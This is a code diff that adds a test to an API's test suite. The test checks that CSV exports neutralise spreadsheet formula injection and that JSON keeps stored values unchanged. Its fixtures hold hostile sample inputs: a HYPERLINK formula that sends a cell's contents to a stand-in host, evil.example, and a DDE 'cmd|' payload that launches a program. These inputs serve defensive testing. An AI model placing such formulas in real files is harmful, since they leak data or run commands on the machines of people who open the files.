@@ -65,6 +65,34 @@ def test_csv_values_and_arabic_intact(client, record):
     assert str(dframe.set_index("id").loc[record["delegation"]["id"], "member_ids"]) == str(record["person"]["id"])
 
 
+FORMULAS = {"name_en": '=HYPERLINK("http://evil.example/?leak="&A1,"Astana")', "name_ar": "@SUM(1)",
+            "aliases": ["+1+1", "plain", "-2"]}
+
+
+def test_csv_neutralizes_formulas_and_json_keeps_them(client, writer):
+    """OWASP CSV injection: a text cell a spreadsheet would run begins with ' in CSV; numbers,
+    dates and ids do not; JSON returns exactly what was stored."""
+    pr = process(client, writer, **FORMULAS)
+    pl = place(client, writer, name_en="\tcmd|' /C calc'!A0", name_ar="-عمان", lon=-3.7, lat=-40.25)
+    me = meeting(client, writer, summary="\r=1+1", place_id=pl["id"])
+    frame = pd.read_csv(io.StringIO(client.get("/processes", params={"format": "csv"}).text)).set_index("id")
+    row = frame.loc[pr["id"]]
+    assert row["name_en"] == "'" + FORMULAS["name_en"] and row["name_ar"] == "'@SUM(1)"
+    assert row["aliases"] == "'+1+1; plain; -2"  # the cell begins with its first alias
+    assert row["version"] == pr["version"]
+    places = pd.read_csv(io.StringIO(client.get("/places", headers={"Accept": "text/csv"}).text)).set_index("id")
+    prow = places.loc[pl["id"]]
+    assert prow["name_en"] == "'\tcmd|' /C calc'!A0" and prow["name_ar"] == "'-عمان"
+    assert (prow["lon"], prow["lat"]) == (-3.7, -40.25)  # numbers, negative ones too, are written as they are
+    text = client.get("/meetings", params={"format": "csv"}).text
+    assert "'\r=1+1" in text and "2017-09-14" in text  # the date is not touched
+    # JSON, item and list: the stored value, byte for byte; nothing the client sent is lost
+    got = client.get(f"/processes/{pr['id']}").json()
+    assert {k: got[k] for k in FORMULAS} == FORMULAS
+    assert client.get(f"/places/{pl['id']}").json()["name_en"] == "\tcmd|' /C calc'!A0"
+    assert next(m for m in client.get("/meetings").json()["items"] if m["id"] == me["id"])["summary"] == "\r=1+1"
+
+
 def test_csv_of_nested_lists(client, record):
     rid = record["round"]["id"]
     for path in (f"/rounds/{rid}/meetings", f"/rounds/{rid}/delegations",
